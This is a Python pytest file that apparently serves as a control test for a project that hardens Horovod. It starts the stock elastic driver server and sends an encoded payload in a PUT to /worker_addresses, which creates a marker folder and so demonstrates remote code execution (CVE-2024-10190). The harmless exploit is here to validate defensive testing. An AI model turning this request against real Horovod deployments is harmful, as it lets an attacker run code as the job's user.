"""An attack on stock Horovod's server succeeds, which shows that the tests of ours can fail."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.launch import ENVIRONMENT, ROOT
from tests.support.payload import MakesFolder, encoded, request

pytest.importorskip("horovod", reason="Horovod is not installed: make setup")


def test_a_put_of_a_worker_address_runs_code_and_anyone_can_put(tmp_path: Path) -> None:
    """CVE-2024-10190: whoever reaches the elastic driver's port runs code as the user of the job."""
    marker = tmp_path / "was here"
    server = [sys.executable, "-m", "tests.support.stock_servers"]
    pipe = subprocess.PIPE
    with subprocess.Popen(server, cwd=ROOT, env=ENVIRONMENT, stdin=pipe, stdout=pipe, text=True) as process:
        assert process.stdin is not None and process.stdout is not None
        port = int(process.stdout.readline())
        request("PUT", port, "/worker_addresses/localhost:0", encoded(MakesFolder(marker)))
        process.stdin.close()
    assert marker.exists()
